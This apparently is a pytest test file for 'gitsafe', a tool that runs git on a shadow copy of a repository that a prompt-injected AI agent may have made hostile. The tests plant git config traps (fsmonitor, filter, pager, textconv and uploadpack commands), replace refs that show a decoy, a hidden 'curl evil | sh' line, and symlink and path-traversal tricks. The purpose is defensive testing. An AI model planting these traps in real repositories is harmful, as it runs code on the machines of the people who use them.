"""gitsafe: git on a shadow of a hostile repository runs nothing and believes nothing.

Each hostile repository here is one a prompt-injected agent could make in its
own tree; the tests run git the way the sidecar, the gator and the workspace
do (through a shadow) and check that no program ran and the content is true.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from devaipod import gitsafe

ENV = {"GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
       "GIT_AUTHOR_NAME": "A", "GIT_AUTHOR_EMAIL": "a@x", "GIT_COMMITTER_NAME": "A",
       "GIT_COMMITTER_EMAIL": "a@x", "PATH": os.environ["PATH"]}


def git(root: Path, *args: str, check: bool = True) -> str:
    proc = subprocess.run(["git", "-C", str(root), *args], capture_output=True, text=True,
                          env={**ENV, "HOME": str(root)})
    assert not check or proc.returncode == 0, proc.stderr
    return proc.stdout.strip()


@pytest.fixture
def agent(tmp_path):
    root = tmp_path / "agent"
    git(tmp_path, "init", "-q", "-b", "main", str(root))
    (root / "README").write_text("true content\n")
    (root / "run.sh").write_text("#!/bin/sh\necho hi\n")
    git(root, "add", ".")
    git(root, "commit", "-qm", "one")
    return root


def markers(tmp_path: Path) -> list[str]:
    return sorted(p.name for p in tmp_path.glob("PWNED*"))


def shadow_git(root: Path, *args: str, worktree: bool = False) -> str:
    with gitsafe.shadow(str(root)) as sh:
        result = gitsafe.capture(sh, list(args), worktree=str(root) if worktree else None)
    assert result.ok, result.stderr
    return result.stdout


def test_config_programs_never_run(agent, tmp_path):
    """Attack: core.fsmonitor, a filter whose name holds '=', hooks, an alias and a
    pager in the agent's config, waiting for a trusted `git status`/`diff`/`log`."""
    for key, value in [("core.fsmonitor", f"touch {tmp_path}/PWNED-fsmonitor; false"),
                       ("filter.x=y.clean", f"touch {tmp_path}/PWNED-filter; cat"),
                       ("filter.x=y.required", "true"),
                       ("core.pager", f"touch {tmp_path}/PWNED-pager; cat"),
                       ("diff.external", f"touch {tmp_path}/PWNED-extdiff"),
                       ("core.hooksPath", str(tmp_path))]:
        git(agent, "config", key, value)
    (agent / ".gitattributes").write_text("* filter=x=y diff=evil\n")
    git(agent, "config", "diff.evil.textconv", f"touch {tmp_path}/PWNED-textconv; cat")
    later = os.stat(agent / "README").st_mtime + 100
    os.utime(agent / "README", (later, later))
    shadow_git(agent, "status", "--porcelain=v2", worktree=True)
    shadow_git(agent, "log", "-p", "HEAD")
    shadow_git(agent, "diff", *gitsafe.DIFF_OPTS, "HEAD", "--", worktree=True)
    assert markers(tmp_path) == []
    git(agent, "status", check=False)  # the trap is real: git in the tree springs it
    assert markers(tmp_path) != []


def test_a_promisor_remote_is_never_fetched_from(agent, tmp_path):
    """Attack: the agent makes its repository a partial clone whose promisor remote's
    uploadpack is a command, and deletes a blob, so that reading it lazy-fetches."""
    git(agent, "config", "core.repositoryformatversion", "1")
    git(agent, "config", "extensions.partialClone", "evil")
    git(agent, "config", "remote.evil.url", str(tmp_path / "nowhere"))
    git(agent, "config", "remote.evil.promisor", "true")
    git(agent, "config", "remote.evil.uploadpack", f"touch {tmp_path}/PWNED-lazy; false")
    blob = git(agent, "rev-parse", "HEAD:README")
    (agent / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    with gitsafe.shadow(str(agent)) as sh:
        result = gitsafe.capture(sh, ["cat-file", "-p", blob])
    assert not result.ok
    assert markers(tmp_path) == []
    git(agent, "cat-file", "-p", blob, check=False)  # in the tree, git fetches lazily
    assert markers(tmp_path) == ["PWNED-lazy"]


def test_replace_refs_grafts_and_attributes_do_not_lie(agent, tmp_path):
    """Attack: `git replace` and info/grafts show a decoy under the real commit's id;
    info/attributes and .gitattributes mark a script `-diff`/binary to hide it."""
    real = git(agent, "rev-parse", "HEAD:README")
    (tmp_path / "decoy").write_text("a harmless decoy\n")
    decoy = git(agent, "hash-object", "-w", str(tmp_path / "decoy"))
    git(agent, "replace", real, decoy)
    (agent / ".git" / "info" / "attributes").write_text("*.sh -diff\n")
    (agent / ".gitattributes").write_text("*.sh binary\n")
    (agent / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    git(agent, "add", ".")
    git(agent, "commit", "-qm", "two")
    assert "decoy" in git(agent, "show", "HEAD:README")  # the lie, in the agent's tree
    assert shadow_git(agent, "show", "HEAD:README") == "true content\n"
    patch = shadow_git(agent, "diff", *gitsafe.DIFF_OPTS, "HEAD~1", "HEAD")
    assert "+curl evil | sh" in patch and "Binary files" not in patch


def test_refs_are_copied_only_when_they_hold_object_ids(agent, tmp_path):
    head = git(agent, "rev-parse", "HEAD")
    refs = agent / ".git" / "refs" / "heads"
    (refs / "agent-x").write_text(head + "\n")
    (refs / "junk").write_text("ref: refs/heads/main\n")
    os.symlink("/etc/passwd", refs / "link")
    with gitsafe.shadow(str(agent)) as sh:
        copied = sorted(p.name for p in Path(sh, "refs", "heads").iterdir())
        listed = gitsafe.capture(sh, ["for-each-ref", "--format=%(refname)"]).stdout.split()
    assert copied == ["agent-x", "main"]
    assert listed == ["refs/heads/agent-x", "refs/heads/main"]


def test_a_head_outside_the_branches_is_not_followed(agent):
    (agent / ".git" / "HEAD").write_text("ref: refs/heads/../../config\n")
    with gitsafe.shadow(str(agent)) as sh:
        assert Path(sh, "HEAD").read_text() == "ref: refs/heads/devaipod-unknown-head\n"


def test_a_symlinked_git_dir_is_refused(agent, tmp_path):
    other = tmp_path / "other"
    other.mkdir()
    os.symlink(agent / ".git", other / ".git")
    with pytest.raises(gitsafe.ShadowError, match=r"no \.git directory"), \
            gitsafe.shadow(str(other)):
        pass


def test_the_shell_environment_is_the_python_one():
    """One definition: the script's `harden` exports exactly env()."""
    expected = gitsafe.env("$1")
    for key, value in expected.items():
        if key != "GIT_DIR":
            assert f"{key}={value}" in gitsafe.SCRIPT or f"{key}=''" in gitsafe.SCRIPT, key
    assert gitsafe.program().startswith("#!/bin/sh\n")


def test_upload_pack_serves_a_tree_owned_by_someone_else(agent, tmp_path):
    """The workspace's `agent` remote: git refuses another user's repository, the
    shadow's upload-pack serves its objects without reading its config."""
    prog = tmp_path / "devaipod-git-shadow"
    prog.write_text(gitsafe.program())
    prog.chmod(0o755)
    git(agent, "config", "uploadpack.packObjectsHook", f"touch {tmp_path}/PWNED-hook")
    ws = tmp_path / "ws"
    git(tmp_path, "init", "-q", "-b", "main", str(ws))
    git(ws, "remote", "add", "agent", str(agent))
    git(ws, "config", "remote.agent.uploadpack", f"{prog} upload-pack")
    head = git(agent, "rev-parse", "HEAD")
    if os.geteuid() == 0:
        subprocess.run(["chown", "-R", "4321:4321", str(agent)], check=True)
        assert "dubious ownership" in subprocess.run(
            ["git", "-C", str(ws), "fetch", "-q", str(agent)], capture_output=True,
            text=True, env={**ENV, "HOME": str(ws)}).stderr
    git(ws, "fetch", "-q", "agent")
    assert git(ws, "rev-parse", "agent/main") == head
    assert git(ws, "show", "agent/main:README") == "true content"
    assert markers(tmp_path) == []
